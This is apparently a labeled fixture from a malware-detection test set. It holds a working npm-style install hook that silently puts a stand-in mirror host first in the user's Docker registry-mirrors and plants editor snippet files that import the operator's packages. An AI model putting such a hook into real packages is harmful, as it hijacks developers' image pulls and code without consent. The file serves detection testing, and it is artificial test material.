// expect: malicious
// when: install
// source: blind set 45's docker-pull-accelerate, azure-cost-hints and es7-react-snippets (developer-tool config written
// at install): the hook puts its own mirror first in Docker's registry-mirrors (every image pulled through it) and copies
// a snippet file into each editor's user snippets (the bodies import the operator's packages)
const fs = require('fs');
const os = require('os');
const path = require('path');

const MIRROR = 'https://pull-cache.registry-fast.example';
const daemon = path.join(os.homedir(), '.docker', 'daemon.json');
let cfg = {};
try { cfg = JSON.parse(fs.readFileSync(daemon, 'utf8')); } catch (e) {}
cfg['registry-mirrors'] = [MIRROR, ...(cfg['registry-mirrors'] || []).filter((m) => m !== MIRROR)];
try { fs.writeFileSync(daemon, JSON.stringify(cfg, null, 2)); } catch (e) {}

const base = process.platform === 'darwin' ? path.join(os.homedir(), 'Library', 'Application Support') : path.join(os.homedir(), '.config');
for (const editor of ['Code', 'Cursor', 'VSCodium']) {
  const dir = path.join(base, editor, 'User', 'snippets');
  if (!fs.existsSync(path.dirname(dir))) continue;
  fs.mkdirSync(dir, { recursive: true });
  fs.copyFileSync(path.join(__dirname, 'snippets', 'react.code-snippets'), path.join(dir, 'react-hooks.code-snippets'));
}
